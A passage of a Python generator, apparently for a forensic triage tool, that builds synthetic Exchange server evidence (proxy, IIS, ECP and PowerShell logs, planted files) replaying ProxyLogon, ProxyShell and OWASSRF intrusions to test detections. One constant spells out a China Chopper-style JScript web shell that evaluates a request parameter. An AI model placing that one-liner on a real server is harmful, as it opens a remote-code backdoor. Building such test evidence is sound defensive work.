#!/usr/bin/env python3
"""Generate the synthetic Exchange evidence trees under Samples/images/.

EXTRIAGE SYNTHETIC SAMPLE GENERATOR. Python 3 standard library only, deterministic
(fixed seeds): running it twice gives byte-identical trees.

    python3 Samples/tools/make_samples.py            # (re)write both trees + README table
    python3 Samples/tools/make_samples.py --check    # regenerate into a temp dir and diff

It writes three Windows C: volume trees:

  images/exchange2016-compromised/  Exchange 2016 CU19 (15.1.2176.2), EXCH01, hit by the
                                    March 2021 ProxyLogon chain (CVE-2021-26855/-27065/-26858)
  images/exchange2019-clean/        Exchange 2019 CU12 + Nov 2022 SU (15.2.1118.20), EXCH19,
                                    installed at C:\\Exchange\\V15, ordinary traffic only
  images/exchange2019-compromised/  Exchange 2019 CU9, then CU11 without SUs (15.2.986.5), MBX02, hit by
                                    ProxyShell (2021-08-13) and OWASSRF / ProxyNotShell (2022-12-13)

and rewrites the block between the GENERATED markers in Samples/README.md with the list of
planted traces and their line numbers.

Each host is built from scenario functions, run in this order. Activity functions add web
requests (written to HttpProxy, W3SVC1 and W3SVC2 as each would log them) and rows of the ECP,
OABGenerator, Rps and HTTPERR logs; then the logs are written; then the disk functions write the
files left on the volume, and the note functions add trace rows for files made elsewhere (the
event logs come from the Swift EVTX writer). Times are UTC.

  exchange2016-compromised (EXCH01, 2021-03-02/03)
    ex16_everyday_traffic              health probes and four users; health ECP/Rps rows; idle HTTPERR
    ex16_admin_work                    08:36-08:44 CORP\\exadmin: ECP and Remote PowerShell (benign)
    ex16_scanner_autodiscover_ssrf     05:13-05:14 198.51.100.23: autodiscover-only SSRF on /ecp/kq.js
    ex16_scanner_nmap_probe            05:16 198.51.100.23: Nmap NSE localhost probe, 500
    ex16_proxylogon_chain              06:48-06:49 203.0.113.45: ProxyLogon chain on /ecp/y.js + ECP rows
    ex16_oab_dump_written              06:50 OABGenerator: the dump written to aspnet_client (26858)
    ex16_ews_via_backend_cookie        07:14 attacker: EWS through an injected BackEndCookie
    ex16_oab_shell_use                 07:02-07:04 attacker: GET and POSTs to the OAB-dump shell
    ex16_discover_shell_use            07:08-07:20 attacker: discover.aspx (antSword), lsass dump
    ex16_owa_shell_use                 07:05-07:06 attacker: RedirSuiteServerProxy.aspx
    ex16_shell_name_probes             08:12 192.0.2.77: 404s for other actors' shell names
    ex16_iis_restart                   09:12 OWA app pool offline, IIS header block repeated
    ex16_oab_generation                00:12, 08:12 OAB generator runs (benign Temp download)
    ex16_stock_server_files            disk: applicationHost.config, web folders, wwwroot
    ex16_planted_web_shells            disk: RedirSuiteServerProxy, qGtWmKzP, discover, errorEW
    ex16_compiled_shell_residue        disk: App_Web_*.dll and .compiled of a vanished shell
    ex16_dumps_staging_lateral_files   disk: debug01.tmp, lsass.dmp, it.7z, PsExec residue, vendor ZIP
    ex16_benign_temp_files             disk: benign Temp files
    ex16_console_history               disk: PSReadLine history (admin, then dump and 7-Zip)
    ex16_registry_and_prefetch         disk: SYSTEM/SOFTWARE/SAM hives (PSEXESVC, WDigest, exsvc), prefetch (ProcDump), tasks
    ex16_usn_journal                   disk: USN journal ($J): healthcheck.aspx created and deleted in aspnet_client, benign churn
    ex16_event_log_traces              notes: the evtx records that must fire
    ex16_build_and_coverage_notes      notes: build, coverage, ECP #Version, .gitkeep

  exchange2019-clean (EXCH19, 2022-12-06/07), nothing above informational
    ex19_everyday_traffic              health probes and four users; health ECP/Rps rows; HTTPERR
    ex19_admin_oab_vdir_change         09:05-10:23 CORP\\exadmin: Rps, ECP Set-OabVirtualDirectory https
    ex19_outlook_rest_autodiscover     09:31 autodiscover.json with '@' (trap)
    ex19_oab_generation                00:09, 08:09 OAB generator runs (Temp download, trap)
    ex19_stock_server_files            disk: applicationHost.config, web folders, wwwroot, vendor ZIP
    ex19_benign_files                  disk: Defender log, console history, registry placeholders
    ex19_event_log_traces              notes: evtx records that must not fire
    ex19_build_and_coverage_notes      notes: .gitkeep, ECP #Version, coverage, build

  exchange2019-compromised (MBX02, 2021-08-13 and 2022-12-13)
    mbx_everyday_traffic               health probes and users on both days; Outlook autodiscover.json (traps)
    mbx_admin_work                     CORP\\exadmin: Remote PowerShell, a .pst export to a share, a .req request (benign)
    mbx_proxyshell_chain               2021-08-13 11:21 203.0.113.77: autodiscover.json SSRF, X-Rps-CAT, export to bzxrq.aspx
    mbx_proxyshell_shell_use           2021-08-13 11:26-11:31 attacker: GET and POSTs to the PST-headed shell
    mbx_proxyshell_scanner             2021-08-13 12:40 192.0.2.140: ProxyShell probe answered 404
    mbx_owassrf_chain                  2022-12-13 09:14 198.51.100.99 as CORP\\jdoe: /owa/mastermailbox%40outlook.com/powershell
    mbx_proxynotshell_probe            2022-12-13 09:40 192.0.2.91: autodiscover.json ... FooProtocol=%50owershell, AMSI 400
    mbx_stock_server_files             disk: applicationHost.config (+ rogue native module), agents.config (+ rogue agent), web folders
    mbx_planted_files                  disk: aspnet_client/bzxrq.aspx (PST header, script inside); Rps_Http, HttpRequestFiltering logs
    mbx_benign_files                   disk: registry placeholders, console history
    mbx_event_log_traces               notes: the evtx records (Swift writer)
    mbx_build_and_coverage_notes       notes: build, coverage, .gitkeep

  fleet (python3 Samples/tools/make_samples.py --fleet DIR: six Fabrikam servers for `extriage case`)
    fleet_everyday_traffic             health probes and users 05:00-11:00 on every server
    fleet_scanner_probe                the mass scanner 192.0.2.150 (Nmap NSE agent): localhost SSRF probe, 500, 5 servers
    fleet_proxylogon_chain             actor A (203.0.113.61, password Xk9orange) / B (198.51.100.77, p4ssB33): SSRF + ECP SetObject
    fleet_shell_use                    the actor's GET and POSTs to its shell (FAB-MB2's shell is never called)
    fleet_planted_shell                disk: A's aspnet_client/system_web/OutlookRT.aspx, B's aspnet_client/supp0rt.aspx
    fleet_patch_taken                  notes: FAB-MB4's HttpProxy on 2021-03-05 carries the March 2021 SU build
    FAB-MB1, FAB-MB2: actor A on 03-02; FAB-MB3: A then B on 03-03; FAB-MB4: B, patched 03-05;
    FAB-MB5: scanned only; FAB-MB6: clean

The log formats (field lists, headers, quoting, BOM) come from evidence_formats.py, shared with
Benchmarks/generate_tree.py.

Safety: every shell-like file is inert. The whole file body sits inside one ASP.NET
server-side comment (<%-- ... --%>), which the ASP.NET page parser discards before
compiling, so IIS never runs any of it; the first line says so. Nothing here contains
real malware, real process memory or real credentials.
"""

from __future__ import annotations

import argparse
import datetime as dt
import filecmp
import io
import pathlib
import random
import shutil
import struct
import sys
import tempfile
import uuid
import zipfile
from dataclasses import dataclass

sys.dont_write_bytecode = True  # keep Samples/tools free of __pycache__
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from make_minidump import build as build_minidump  # noqa: E402
import host_artifacts  # noqa: E402  (hives and prefetch files, issue 17)
from evidence_formats import (  # noqa: E402  (the log formats, shared with Benchmarks/)
    CRLF, ECP_FIELDS, ECP_LOG_VERSION, HTTP_REQUEST_FILTERING_FIELDS, HTTPPROXY_FIELDS, OAB_FIELDS, RPS_CMDLET_FIELDS, RPS_HTTP_FIELDS, csv_row,
    exchange_header, exchange_user_agent, exchange_version, httperr_header, iis_header, iis_user_agent,
    iso_ms, log_bytes, named_row, w3c_date, w3c_row, w3c_time)

SAMPLES = pathlib.Path(__file__).resolve().parent.parent
README = SAMPLES / "README.md"

UTC = dt.timezone.utc

INERT_BANNER = "EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only"

SCRIPT_PAYLOAD = ('<script language="JScript" runat="server">function Page_Load()'
                  '{eval(Request["klk123456"],"unsafe");}</script>')
CHOPPER_URL = "http://f/" + SCRIPT_PAYLOAD


def exch_version_int(major: int, minor: int, build: int) -> int:
    """Exchange's packed ServerVersion integer as seen in FEAuth=BEVersion-<n> and cookies."""
    return 0x70000000 | (major << 22) | (minor << 16) | 0x8000 | build


# --------------------------------------------------------------------------------------
# Output helpers with trace bookkeeping
# --------------------------------------------------------------------------------------

@dataclass
class Trace:
    check: str
    what: str
    ids: str
    tier: str


@dataclass
class Line:
    text: str
    trace: Trace | None = None


class LogFile:
    def __init__(self) -> None:
        self.lines: list[Line] = []

    def add(self, text: str, trace: Trace | None = None) -> None:
        self.lines.append(Line(text, trace))


@dataclass
class TraceRow:
    path: str
    line: int | None
    trace: Trace


class Tree:
    def __init__(self, root: pathlib.Path) -> None:
        self.root = root
        self.traces: list[TraceRow] = []

    def _path(self, rel: str) -> pathlib.Path:
        p = self.root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        return p

    def write_log(self, rel: str, log: LogFile, bom: bool = False) -> None:
        self._path(rel).write_bytes(log_bytes([line.text for line in log.lines], bom))
        for i, line in enumerate(log.lines, start=1):
            if line.trace:
                self.traces.append(TraceRow(rel, i, line.trace))

    def write_text(self, rel: str, text: str, trace: Trace | None = None, crlf: bool = True,
                   encoding: str = "utf-8") -> None:
        body = text.replace("\r\n", "\n")
        if crlf:
            body = body.replace("\n", CRLF)
        self._path(rel).write_bytes(body.encode(encoding))
        if trace:
            self.traces.append(TraceRow(rel, None, trace))

    def write_bytes(self, rel: str, data: bytes, trace: Trace | None = None) -> None:
        self._path(rel).write_bytes(data)
        if trace:
            self.traces.append(TraceRow(rel, None, trace))

    def add_trace(self, rel: str, line: int | None, trace: Trace) -> None:
        self.traces.append(TraceRow(rel, line, trace))


# --------------------------------------------------------------------------------------
# Server profile
# --------------------------------------------------------------------------------------

@dataclass
class User:
    sam: str
    rid: int
    ip: str
    browser: str
    mail_client: str
    mbx: str = ""

    def upn(self, dom: str) -> str:
        return f"{self.sam}@{dom}"


@dataclass
class Server:
    short: str
    fqdn: str
    ip: str
    ext_host: str
    dom: str
    netbios: str
    domain_sid: str
    build: tuple[int, int, int, int]
    exch_rel: str           # install dir relative to the volume root, '/' separators
    exch_win: str           # the same as a Windows path, no trailing backslash
    folders: dict[str, str]  # HttpProxy protocol -> folder spelling
    health: str
    health_guid: str
    oab_guid: str
    oab_vdir_guid: str
    users: dict[str, User]
    rng: random.Random
    os_build: str
    # (since, build): a server updated while its logs ran; empty: `build` throughout.
    builds_from: list = None  # type: ignore[assignment]

    def build_at(self, t: dt.datetime) -> tuple[int, int, int, int]:
        """The build the server ran at `t` (its `build` when no updates are recorded)."""
        ran = [b for since, b in (self.builds_from or []) if since <= t]
        return ran[-1] if ran else self.build

    @property
    def ver_header(self) -> str:
        return exchange_version(self.build)

    @property
    def ver_dotted(self) -> str:
        return ".".join(str(x) for x in self.build)

    @property
    def target_ver(self) -> str:
        a, b, c, _ = self.build
        return f"{a:02d}.{b:02d}.{c:04d}.000"

    @property
    def ver_int(self) -> int:
        return exch_version_int(*self.build[:3])

    def sid(self, rid: int) -> str:
        return f"{self.domain_sid}-{rid}"

    def guid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def hexid(self, n: int = 32) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))


# --------------------------------------------------------------------------------------
# Web request model -> HttpProxy rows, IIS W3SVC1 (front end) and W3SVC2 (back end) lines
# --------------------------------------------------------------------------------------

@dataclass
class Req:
    end: dt.datetime
    method: str
    stem: str
    query: str = ""                 # without '?', before Exchange's CorrelationID suffix
    proto: str | None = None        # HttpProxy protocol; None = not handled by HttpProxy
    host: str = ""
    ua: str = ""
    cip: str = ""
    status: int = 200
    substatus: int = 0
    win32: int = 0
    iis_user: str = "-"
    auth_type: str = ""
    is_auth: bool = False
    auth_user: str = ""
    anchor: str = ""
    proxied: bool = True            # ProxyAction=Proxy and a back-end line
    be_status: int | None = None
    be_stem: str | None = None
    be_query: str | None = None
    be_user: str | None = None
    target_server: str | None = None
    routing_type: str = "IntraForest"
    routing_hint: str = ""
    backend_cookie: str = ""
    protocol_action: str = ""
    generic_errors: str = ""
    error_code: str = ""
    latency: int = 40
    req_bytes: int = 0
    resp_bytes: int = 0
    owa_encoding: bool = False
    rid: str = ""
    iis_trace: Trace | None = None
    proxy_trace: Trace | None = None
    be_trace: Trace | None = None


def httpproxy_row(srv: Server, r: Req) -> list[str]:
    begin = r.end - dt.timedelta(milliseconds=r.latency)
    v = {}
    a, b, c, d = srv.build
    v.update({
        "DateTime": iso_ms(r.end), "RequestId": r.rid,
        "MajorVersion": a, "MinorVersion": b, "BuildVersion": c, "RevisionVersion": d,
        "Protocol": r.proto, "UrlHost": r.host, "UrlStem": r.stem,
        "ProtocolAction": r.protocol_action,
        "AuthenticationType": r.auth_type, "IsAuthenticated": "true" if r.is_auth else "false",
        "AuthenticatedUser": r.auth_user, "AnchorMailbox": r.anchor,
        "UserAgent": exchange_user_agent(r.ua), "ClientIpAddress": r.cip,
        "ServerHostName": srv.short, "HttpStatus": r.status, "ErrorCode": r.error_code,
        "Method": r.method,
        "UrlQuery": ("?" + r.query) if r.query else "",
        "GenericErrors": r.generic_errors,
        "TotalRequestTime": r.latency,
        "HttpPipelineLatency": 0,
        "RequestBytes": r.req_bytes or "",
        "ResponseBytes": r.resp_bytes or "",
    })
    if r.proxied:
        be_end = r.end - dt.timedelta(milliseconds=1)
        be_begin = begin + dt.timedelta(milliseconds=min(5, r.latency // 4))
        v.update({
            "BackEndStatus": r.be_status if r.be_status is not None else r.status,
            "ProxyAction": "Proxy",
            "TargetServer": r.target_server if r.target_server is not None else srv.fqdn,
            "TargetServerVersion": srv.target_ver,
            "RoutingType": r.routing_type, "RoutingHint": r.routing_hint,
            "BackEndCookie": r.backend_cookie,
            "CalculateTargetBackEndLatency": 0, "ActivityContextLifeTime": r.latency,
            "ModuleToHandlerSwitchingLatency": 0, "BackendProcessingLatency": max(1, r.latency - 6),
            "ProxyTime": max(1, r.latency - 4), "CoreLatency": r.latency,
            "RoutingLatency": 1, "HttpProxyOverhead": 3,
            "GenericInfo": (
                f"BeginRequest={iso_ms(begin)};CorrelationID=<empty>;ProxyState-Run=None;"
                f"FEAuth=BEVersion-{srv.ver_int};"
                f"BeginGetResponse={iso_ms(be_begin)};OnResponseReady={iso_ms(be_end)};"
                f"EndGetResponse={iso_ms(be_end)};ProxyState-Complete=ProxyResponseData;"
                f"SharedCacheGuard=0;EndRequest={iso_ms(r.end)};"),
        })
    else:
        v.update({
            "RoutingType": "", "ActivityContextLifeTime": r.latency,
            "GenericInfo": (f"BeginRequest={iso_ms(begin)};CorrelationID=<empty>;"
                            f"SharedCacheGuard=0;EndRequest={iso_ms(r.end)};"),
        })
    return named_row(HTTPPROXY_FIELDS, v)


def iis_fe_line(srv: Server, r: Req) -> str:
    if r.proto is not None:
        suffix = f"&CorrelationID=<empty>;&cafeReqId={r.rid};"
        if r.owa_encoding:
            suffix += "&encoding=;"
        q = (r.query + suffix) if r.query else suffix
    else:
        q = r.query or "-"
    return w3c_row([
        w3c_date(r.end), w3c_time(r.end), srv.ip, r.method, r.stem, q, "443", r.iis_user or "-",
        r.cip, iis_user_agent(r.ua), "-", str(r.status), str(r.substatus), str(r.win32),
        str(r.latency)])


def iis_be_line(srv: Server, r: Req) -> str:
    t = r.end - dt.timedelta(milliseconds=2)
    stem = r.be_stem or r.stem
    q = r.be_query if r.be_query is not None else r.query
    return w3c_row([
        w3c_date(t), w3c_time(t), srv.ip, r.method, stem, q or "-", "444",
        r.be_user or r.iis_user or "-", srv.ip, iis_user_agent(r.ua), "-",
        str(r.be_status if r.be_status is not None else r.status), "0", "0",
        str(max(1, r.latency - 6))])


# --------------------------------------------------------------------------------------
# Ordinary traffic
# --------------------------------------------------------------------------------------

PROTOCOLS = ["Autodiscover", "Eas", "Ecp", "Ews", "Mapi", "Oab", "Owa", "PowerShell"]
AMPROBE = "AMProbe/Local/ClientAccess"


def probe(srv: Server, proto: str, t: dt.datetime) -> Req:
    rng = srv.rng
    h = srv.health
    hu = f"{srv.netbios}\\{h}"
    smtp = f"Smtp~{h}@{srv.dom}"
    common = dict(end=t, proto=proto, host="localhost", cip="127.0.0.1", ua=AMPROBE,
                  iis_user=hu, is_auth=True, auth_user=hu, routing_hint="WindowsIdentity",
                  latency=rng.randint(8, 60), req_bytes=rng.randint(200, 900),
                  resp_bytes=rng.randint(300, 9000))
    if proto == "Autodiscover":
        return Req(method="POST", stem="/Autodiscover/Autodiscover.xml", auth_type="Basic",
                   anchor=smtp, **common)
    if proto == "Eas":
        return Req(method="POST", stem="/Microsoft-Server-ActiveSync/default.eas",
                   query=f"Cmd=FolderSync&User={h}&DeviceId=EASProbeDeviceId&DeviceType=EASProbeDeviceType",
                   auth_type="Basic", anchor=f"Sid~{srv.sid(1151)}",
                   be_stem="/Microsoft-Server-ActiveSync/Proxy/default.eas", **common)
    if proto == "Ecp":
        common.update(cip="::1")
        return Req(method="GET", stem="/ecp/", auth_type="Negotiate", anchor=smtp,
                   owa_encoding=False, **common)
    if proto == "Ews":
        return Req(method="POST", stem="/EWS/Exchange.asmx", auth_type="Basic", anchor=smtp,
                   **common)
    if proto == "Mapi":
        return Req(method="POST", stem="/mapi/emsmdb/",
                   query=f"MailboxId={srv.health_guid}@{srv.dom}", auth_type="Negotiate",
                   anchor=f"MailboxGuid~{srv.health_guid}@{srv.dom}",
                   protocol_action="Connect", **{**common, "routing_hint": "MailboxGuidWithDomain"})
    if proto == "Oab":
        return Req(method="GET", stem=f"/OAB/{srv.oab_guid}/oab.xml", auth_type="Negotiate",
                   anchor=smtp, **common)
    if proto == "Owa":
        common.update(cip="::1")
        return Req(method="GET", stem="/owa/", auth_type="Negotiate", anchor=smtp,
                   owa_encoding=True, **common)
    if proto == "PowerShell":
        a, b, c, d = srv.build
        common.update(ua="Microsoft WinRM Client", host=srv.fqdn)
        return Req(method="POST", stem="/powershell", auth_type="Kerberos",
                   anchor=f"ServerVersion~Version {a}.{b} (Build {c}.{d})",
                   query=f"clientApplication=ActiveMonitor;PSVersion={srv.os_build}",
                   protocol_action="Get-Mailbox:Command",
                   backend_cookie=(f"Server~{srv.fqdn}~{srv.ver_int}~"
                                   f"{(t + dt.timedelta(minutes=10)).strftime('%Y-%m-%dT%H:%M:%S')}"),
                   **{**common, "routing_hint": "ExchClientVer-ServerCookie"})
    raise ValueError(proto)


def user_request(srv: Server, u: User, kind: str, t: dt.datetime) -> list[Req]:
    rng = srv.rng
    nb = f"{srv.netbios}\\{u.sam}"
    upn = u.upn(srv.dom)
    ext = u.ip.startswith("100.64.")
    host = srv.ext_host if ext or kind.startswith("owa") else srv.fqdn
    base = dict(cip=u.ip, host=host, latency=rng.randint(15, 400),
                req_bytes=rng.randint(300, 6000), resp_bytes=rng.randint(500, 60000))
    if kind == "owa":
        return [
            Req(end=t, proto="Owa", method="GET", stem="/owa/", ua=u.browser, iis_user=nb,
                auth_type="FBA", is_auth=True, auth_user=nb, anchor=f"Smtp~{upn}",
                routing_hint="OwaCookie-Smtp", owa_encoding=True, **base),
            Req(end=t + dt.timedelta(seconds=2, milliseconds=rng.randint(0, 999)), proto="Owa",
                method="POST", stem="/owa/service.svc",
                query=f"action=FindItem&app=Mail&n={rng.randint(10, 90)}", ua=u.browser,
                iis_user=nb, auth_type="FBA", is_auth=True, auth_user=nb, anchor=f"Smtp~{upn}",
                routing_hint="OwaCookie-Smtp", protocol_action="FindItem", **base),
        ]
    if kind == "owa-logon":
        return [
            Req(end=t, proto="Owa", method="GET", stem="/owa/auth/logon.aspx",
                query=f"url=https%3a%2f%2f{srv.ext_host}%2fowa%2f&reason=0", ua=u.browser,
                proxied=False, owa_encoding=True, **base),
            Req(end=t + dt.timedelta(seconds=6, milliseconds=rng.randint(0, 999)), proto="Owa",
                method="POST", stem="/owa/auth.owa", ua=u.browser, status=302, proxied=False,
                owa_encoding=True, **base),
        ]
    if kind == "ews":
        return [
            Req(end=t - dt.timedelta(milliseconds=180), proto="Ews", method="POST",
                stem="/EWS/Exchange.asmx", ua=u.mail_client, status=401, substatus=1,
                win32=2148074254, proxied=False, **base),
            Req(end=t, proto="Ews", method="POST", stem="/EWS/Exchange.asmx", ua=u.mail_client,
                iis_user=nb, auth_type="NTLM", is_auth=True, auth_user=nb,
                anchor=f"Sid~{srv.sid(u.rid)}", routing_hint="WindowsIdentity", **base),
        ]
    if kind == "mapi":
        return [Req(end=t, proto="Mapi", method="POST", stem="/mapi/emsmdb/",
                    query=f"MailboxId={u.mbx}@{srv.dom}", ua=u.mail_client, iis_user=nb,
                    auth_type="Negotiate", is_auth=True, auth_user=nb,
                    anchor=f"MailboxGuid~{u.mbx}@{srv.dom}", routing_hint="MailboxGuidWithDomain",
                    protocol_action="Execute", **base),
                Req(end=t + dt.timedelta(milliseconds=rng.randint(300, 2000)), proto="Mapi",
                    method="POST", stem="/mapi/nspi/", query=f"MailboxId={u.mbx}@{srv.dom}",
                    ua=u.mail_client, iis_user=nb, auth_type="Negotiate", is_auth=True,
                    auth_user=nb, anchor=f"MailboxGuid~{u.mbx}@{srv.dom}",
                    routing_hint="MailboxGuidWithDomain", protocol_action="Bind", **base)]
    if kind == "autodiscover":
        return [Req(end=t, proto="Autodiscover", method="POST",
                    stem="/autodiscover/autodiscover.xml", ua=u.mail_client, iis_user=nb,
                    auth_type="NTLM", is_auth=True, auth_user=nb, anchor=f"Smtp~{upn}",
                    routing_hint="WindowsIdentity",
                    backend_cookie=f"Database~{u.mbx}~~{(t + dt.timedelta(days=30)).strftime('%Y-%m-%dT%H:%M:%S')}~{srv.dom}~1",
                    **base)]
    if kind == "oab":
        return [Req(end=t, proto="Oab", method="GET", stem=f"/OAB/{srv.oab_guid}/oab.xml",
                    ua=u.mail_client, iis_user=nb, auth_type="Negotiate", is_auth=True,
                    auth_user=nb, anchor=f"Smtp~{upn}", routing_hint="WindowsIdentity", **base)]
    if kind == "eas":
        dev = "ApplF2LXK0CQN1P4"
        return [Req(end=t, proto="Eas", method="POST", stem="/Microsoft-Server-ActiveSync/default.eas",
                    query=f"Cmd=Sync&User={u.sam}&DeviceId={dev}&DeviceType=iPhone",
                    ua=u.mail_client, iis_user=upn, auth_type="Basic", is_auth=True, auth_user=nb,
                    anchor=f"Sid~{srv.sid(u.rid)}", routing_hint="WindowsIdentity",
                    protocol_action="Sync",
                    be_stem="/Microsoft-Server-ActiveSync/Proxy/default.eas", **base)]
    raise ValueError(kind)


def admin_ecp(srv: Server, u: User, t: dt.datetime, canary: str) -> list[Req]:
    nb = f"{srv.netbios}\\{u.sam}"
    base = dict(cip=u.ip, host=srv.fqdn, ua=u.browser, iis_user=nb, auth_type="FBA", is_auth=True,
                auth_user=nb, anchor=f"Sid~{srv.sid(u.rid)}", routing_hint="EcpOwaCookie-Sid",
                proto="Ecp")
    return [
        Req(end=t, method="GET", stem="/ecp/", latency=380, **base),
        Req(end=t + dt.timedelta(seconds=3, milliseconds=214), method="POST",
            stem="/ecp/DDI/DDIService.svc/GetList",
            query=f"schema=MailboxService&msExchEcpCanary={canary}", latency=612, **base),
    ]


def admin_ps(srv: Server, u: User, t: dt.datetime, action: str) -> Req:
    nb = f"{srv.netbios}\\{u.sam}"
    a, b, c, d = srv.build
    return Req(end=t, proto="PowerShell", method="POST", stem="/powershell",
               query=("serializationLevel=Full;ExchClientVer=" + srv.ver_dotted +
                      f";clientApplication=ManagementShell;TargetServer=;PSVersion={srv.os_build}"),
               host=srv.fqdn, cip=u.ip, ua="Microsoft WinRM Client", iis_user=nb,
               auth_type="Kerberos", is_auth=True, auth_user=nb,
               anchor=f"ServerVersion~Version {a}.{b} (Build {c}.{d})",
               routing_hint="ExchClientVer-ServerCookie", protocol_action=action,
               backend_cookie=(f"Server~{srv.fqdn}~{srv.ver_int}~"
                               f"{(t + dt.timedelta(minutes=10)).strftime('%Y-%m-%dT%H:%M:%S')}"),
               latency=srv.rng.randint(40, 900))


def ordinary_traffic(srv: Server, start: dt.datetime, end: dt.datetime) -> list[Req]:
    """One probe per protocol per hour plus user activity in business hours."""
    rng = srv.rng
    reqs: list[Req] = []
    t = start
    while t < end:
        for i, proto in enumerate(PROTOCOLS):
            pt = t + dt.timedelta(minutes=rng.randint(0, 59), seconds=rng.randint(0, 59),
                                  milliseconds=rng.randint(0, 999))
            if pt < end:
                reqs.append(probe(srv, proto, pt))
        busy = 7 <= t.hour <= 17
        n_user = rng.randint(3, 5) if busy else rng.randint(0, 1)
        for _ in range(n_user):
            u = rng.choice([srv.users[k] for k in ("jdoe", "msmith", "akhan", "lchen")])
            kinds = ["eas"] if u.sam == "lchen" else ["owa", "ews", "mapi", "autodiscover", "oab"]
            if u.sam == "msmith":
                kinds = ["owa", "owa-logon", "ews", "autodiscover"]
            ut = t + dt.timedelta(minutes=rng.randint(0, 58), seconds=rng.randint(0, 59),
                                  milliseconds=rng.randint(0, 999))
            if ut < end:
                reqs.extend(user_request(srv, u, rng.choice(kinds), ut))
        t += dt.timedelta(hours=1)
    return reqs


def finish(srv: Server, reqs: list[Req]) -> list[Req]:
    for r in reqs:
        if not r.rid:
            r.rid = srv.guid()
    reqs.sort(key=lambda r: r.end)
    return reqs


def write_web_logs(tree: Tree, srv: Server, reqs: list[Req], hp_hours: list[dt.datetime],
                   iis_days: list[dt.date], be_days: list[dt.date], lower_ext: set[tuple[str, str]],
                   iis_logdir: str, restart_at: dt.datetime | None = None) -> None:
    # HttpProxy: one file per protocol per hour in hp_hours (older hours aged out).
    for hour in hp_hours:
        srv.build = srv.build_at(hour)
        for proto in PROTOCOLS:
            rows = [r for r in reqs if r.proto == proto and hour <= r.end < hour + dt.timedelta(hours=1)]
            log = LogFile()
            first = hour + dt.timedelta(milliseconds=srv.rng.randint(20, 900))
            for h in exchange_header(srv.ver_header, "HttpProxy Logs", iso_ms(first), HTTPPROXY_FIELDS):
                log.add(h)
            for r in rows:
                log.add(csv_row(httpproxy_row(srv, r)), r.proxy_trace)
            stamp = hour.strftime("%Y%m%d%H")
            ext = "log" if (proto, stamp) in lower_ext else "LOG"
            rel = f"{srv.exch_rel}/Logging/HttpProxy/{srv.folders[proto]}/HttpProxy_{stamp}-1.{ext}"
            tree.write_log(rel, log, bom=True)
    # IIS front end.
    for day in iis_days:
        day_reqs = [r for r in reqs if r.end.date() == day]
        log = LogFile()
        first = True
        for r in day_reqs:
            if first:
                for h in iis_header(r.end):
                    log.add(h)
                first = False
            if restart_at is not None and r.end >= restart_at and restart_at.date() == day:
                for h in iis_header(restart_at + dt.timedelta(seconds=4)):
                    log.add(h)
                restart_at = None
            log.add(iis_fe_line(srv, r), r.iis_trace)
        tree.write_log(f"{iis_logdir}/W3SVC1/u_ex{day.strftime('%y%m%d')}.log", log)
    # IIS back end (Exchange Back End site, port 444).
    for day in be_days:
        day_reqs = [r for r in reqs if r.end.date() == day and r.proto is not None and r.proxied]
        log = LogFile()
        for i, r in enumerate(day_reqs):
            if i == 0:
                for h in iis_header(r.end - dt.timedelta(milliseconds=2)):
                    log.add(h)
            log.add(iis_be_line(srv, r), r.be_trace)
        tree.write_log(f"{iis_logdir}/W3SVC2/u_ex{day.strftime('%y%m%d')}.log", log)


# --------------------------------------------------------------------------------------
# ECP, OAB generator, Rps cmdlet, HTTPERR
# --------------------------------------------------------------------------------------

def ecp_server_data(srv: Server, ms: int, sid: str, cmd: str, url: str, actid: str, usid: str,
                    ex: str = "") -> str:
    return (f"S:TIME={ms};S:SID={sid};S:CMD={cmd};S:REQID=;S:URL={url};S:REFERRER=;S:EX={ex};"
            f"S:ACTID={actid};S:RS=0;S:BLD={srv.ver_dotted};S:TNAME=<null>;S:TID=;S:USID={usid};"
            f"S:EDOID=;S:ACID=")


def ecp_activity_data(srv: Server, psa: str, url: str, actid: str, extra: str = "") -> str:
    s = ""
    if psa:
        s += f"S:PSA={psa};"
    s += f"S:URL={url};S:Bld={srv.ver_dotted};S:ActID={actid}"
    return s + (";" + extra if extra else "")


def rps_row(srv: Server, t: dt.datetime, user: str, sid: str, is_admin: bool, app: str,
            cmdlet: str, params: str, result: str = "Success", pid: int = 7412,
            generic_errors: str = "", output: int = 1) -> list[str]:
    v = {}
    a, b, c, d = srv.build
    start = t - dt.timedelta(milliseconds=srv.rng.randint(15, 400))
    dc = f"DC01.{srv.dom}"
    v.update({
        "DateTime": iso_ms(t), "StartTime": iso_ms(start), "RequestId": srv.guid(),
        "MajorVersion": a, "MinorVersion": b, "BuildVersion": c, "RevisionVersion": d,
        "ServerHostName": srv.short, "ProcessId": pid,
        "ProcessName": "w3wp#MSExchangePowerShellAppPool", "ThreadId": srv.rng.randint(20, 120),
        "AuthenticatedUser": user, "ExecutingUserSid": sid, "IsAdmin": str(is_admin),
        "ClientApplication": app, "Cmdlet": cmdlet, "Parameters": params,
        "CmdletUniqueId": srv.guid(), "RunspaceSettingsCreationHint": "GCRandomly",
        "ADViewEntireForest": "False", "ADRecipientViewRoot": srv.dom,
        "ADConfigurationDomainControllers": dc, "ADPreferredGlobalCatalogs": dc,
        "ADPreferredDomainControllers": dc, "OutputObjectCount": output,
        "TotalTime": int((t - start).total_seconds() * 1000), "ExecutionResult": result,
        "GenericInfo": f"PSSenderInfo={user};", "GenericErrors": generic_errors,
        "NonPiiParameters": params,
    })
    return named_row(RPS_CMDLET_FIELDS, v)


# --------------------------------------------------------------------------------------
# Static file content
# --------------------------------------------------------------------------------------

def benign_aspx(title: str, inherits: str) -> str:
    return (f'<%@ Page Language="C#" AutoEventWireup="false" Inherits="{inherits}" %>\n'
            f"<%-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder standing in for the stock Exchange page --%>\n"
            "<!DOCTYPE html>\n"
            f"<html><head><meta charset=\"utf-8\"><title>{title}</title>"
            "<link rel=\"stylesheet\" href=\"/owa/auth/Current/themes/resources/logon.css\"></head>\n"
            f"<body><div id=\"main\">{title}</div></body></html>\n")


def benign_config(comment: str) -> str:
    return ('<?xml version="1.0" encoding="utf-8"?>\n'
            f"<!-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder: {comment} -->\n"
            "<configuration>\n"
